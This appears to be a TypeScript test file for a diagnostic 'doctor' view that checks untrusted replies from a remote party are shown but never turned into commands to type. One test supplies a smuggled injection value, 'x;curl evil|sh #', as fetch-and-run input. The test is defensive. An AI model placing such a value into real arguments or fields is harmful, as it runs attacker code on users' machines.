import type { FnapConnection, Reply, survey } from '@fnaa/client'
import t from 'tap'
import { strangersView } from './doctor-view.js'

/** What the doctor says where the owner's agent answers so. */
async function told(reply: object): Promise<survey.Finding[]> {
  const findings: survey.Finding[] = []
  const connection = { authenticate: async () => undefined, command: async () => reply as Reply }
  const found = { namespace: 'flows.evil.test' } as survey.Found
  const tell = (f: survey.Finding) => void findings.push(f)
  await strangersView('x.flows.evil.test', found, connection as unknown as FnapConnection, tell)
  return findings
}

t.test('what a stranger says is shown, and is nothing to be typed', async t => {
  const lines = ['flow=x', 'type=kafka', 'visibility=public', 'broker=x;curl%20evil|sh%20#', 'state=broken']
  const findings = await told({ kind: 'data', code: 220, lines })
  const [mend] = findings.find(f => f.layer === 'broker')!.mend
  t.match(mend, { text: 'fnua describe broker <broker>' })
})

t.test("a stranger's words say nothing of an agent of ours", async t => {
  const text = 'it is at an address that may not be used'
  const [finding] = await told({ kind: 'error', code: 502, symbol: 'REMOTE', text })
  t.match(finding, { layer: 'grants', state: 'broken' })
  t.notMatch(JSON.stringify(finding!.mend), 'network')
})
